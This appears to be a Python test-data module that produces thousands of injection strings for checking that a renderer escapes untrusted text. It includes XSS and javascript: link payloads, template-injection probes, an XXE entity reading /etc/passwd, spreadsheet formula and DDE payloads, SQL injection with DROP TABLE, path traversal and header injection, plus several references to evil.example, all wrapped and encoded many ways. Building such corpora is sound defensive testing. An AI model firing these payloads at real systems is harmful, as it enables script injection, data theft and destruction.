"""Strings that would be active somewhere if a renderer forgot to escape them: seeds, wrapped and encoded."""

import base64
import html
import itertools
import urllib.parse
from collections.abc import Iterator

CALL = "alert(1)"
SEEDS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script>",
    f"<body onpageshow={CALL}>",
    f"<iframe srcdoc='<script>{CALL}</script>'>",
    "<iframe src=//evil.example>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<math><mi xlink:href=javascript:{CALL}>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<button formaction=javascript:{CALL}>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css'</style>",
    "<p style=background:url(//evil.example/x)>x</p>",
    f"<object data=javascript:{CALL}>",
    "<embed src=//evil.example>",
    f"<video><source onerror={CALL}></video>",
    f"<marquee onstart={CALL}>",
    "<template><script>x</script></template>",
    f"[x](javascript:{CALL})",
    f"[x](jAvAsCrIpT&colon;{CALL})",
    f"[x](&#x6a;avascript:{CALL})",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"![x](javascript:{CALL})",
    "![x](//evil.example/pixel.png)",
    f"[x]: javascript:{CALL}\n\n[x]",
    f"<javascript:{CALL}>",
    f'[x](https://a.example "onmouseover={CALL}")',
    f"[x](//evil.example/{CALL})",
    f"`<script>{CALL}</script>`",
    f"\n\n    <script>{CALL}</script>\n\n",
    "{{ 7 * 7 }}",
    "{% for x in ().__class__ %}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(title)s",
    "{0.__class__}",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "]]><script>x</script>",
    "<![CDATA[<script>x</script>]]>",
    "<?xml-stylesheet href='//evil.example'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>",
    f") /S /JavaScript /JS ({CALL}) (",
    f">> /OpenAction << /S /JavaScript /JS ({CALL}) >>",
    "endstream endobj 1 0 obj <</JS(x)>>",
    '=HYPERLINK("//evil.example")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\u200b=1+1",
    "＝1+1",
    "%0A=1+1",
    "' OR '1'='1",
    "'; DROP TABLE petitions; --",
    "../../etc/passwd",
    "\u202egnp.exe",
    "</title><script>x</script>",
    "</textarea><script>x</script>",
    "--><script>x</script>",
    '"><script>x</script>',
    "'><script>x</script>",
    "`-alert(1)-`",
    "</script><script>x</script>",
    "\\u003cscript\\u003e",
    "<scr<script>ipt>x</scr</script>ipt>",
    "<IMG SRC=`javascript:x`>",
)
HEADER_BREAKS = (
    "\r\nBcc: evil@evil.example",
    "\nSubject: x\n\n<script>",
    "\r\n\r\n<html>",
    "\x0bBcc: x",
    "\u2028Bcc: x",
)
WRAPS = (
    "{}",
    "Мәтін {} мәтін",
    '"{}',
    "'{}",
    ">{}",
    "{}<!--",
    "</p>{}",
    "**{}**",
    "> {}",
    "- {}",
    "# {}",
    "<<{}",
    "{}\x3c/",
    "&{};",
)


def _forms(seed: str) -> Iterator[str]:
    yield seed
    yield html.escape(seed)
    yield "".join(f"&#{ord(sign)};" if sign in "<>:'\"(" else sign for sign in seed)
    yield urllib.parse.quote(seed, safe="/ ")
    yield seed.replace("script", "sCrIpT").replace("<", "＜")
    yield seed.replace("<", "<\u200b").replace("javascript", "java\tscript")
    yield base64.b64encode(seed.encode()).decode()
    yield seed.swapcase()


def strings(n: int = 2000) -> list[str]:
    """`n` different strings, the plain seeds first; the same ones each time."""
    plain = list(SEEDS)
    wrapped = (wrap.replace("{}", form) for wrap in WRAPS for seed in SEEDS for form in _forms(seed))
    found = list(itertools.islice(dict.fromkeys([*plain, *wrapped]), n))
    assert len(found) == n
    return found
